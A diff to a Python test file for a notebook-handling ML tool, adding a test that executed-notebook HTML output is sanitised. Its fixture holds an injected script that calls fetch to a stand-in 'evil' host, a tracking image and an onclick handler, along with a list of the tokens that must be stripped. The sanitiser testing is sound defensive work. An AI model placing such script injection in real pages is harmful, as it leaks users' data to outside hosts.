@@ -3,7 +3,6 @@ last output; none is a success with "no metric found", and every consumer that n
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 import nbformat
@@ -124,3 +123,27 @@ def test_the_report_says_a_baseline_without_a_metric_needs_one(store, tmp_path):
     res = results(store, plan, 0.1)
     assert res.outcome is None
     assert res.missing.startswith("The baseline run succeeded but reported no metric; this needs a metric")
+
+
+def test_rich_outputs_of_an_executed_notebook_are_kept_and_html_is_sanitised(tmp_path):
+    from mlr.execution.notebook_view import notebook_cells, printed_output, rich_outputs
+
+    cell = v4.new_code_cell("show()")
+    cell.outputs = [
+        v4.new_output("stream", name="stdout", text="epoch 1\n"),
+        v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"}),
+        v4.new_output("execute_result", execution_count=1, data={
+            "text/html": '<style>td{}</style><table class="dataframe"><tr><td onclick="x()">0.9</td></tr></table>'
+                         '<script>fetch("http://evil/?k=1")</script><img src="http://evil/p.png"><a href="http://e">l</a>',
+            "text/plain": "table"}),
+    ]
+    nb = v4.new_notebook()
+    nb.cells = [cell]
+    path = tmp_path / "out.ipynb"
+    nbformat.write(nb, str(path))
+    cells = notebook_cells(path)
+    kinds = [out.kind for _, out in rich_outputs(cells)]
+    assert kinds == ["image", "html"] and printed_output(cells) == "epoch 1\n"
+    html = rich_outputs(cells)[1][1].text
+    assert "<table><tbody><tr><td>0.9</td></tr></tbody></table>" in html
+    assert not any(bad in html for bad in ("<script", "fetch", "<img", "href", "onclick", "<style", "evil"))
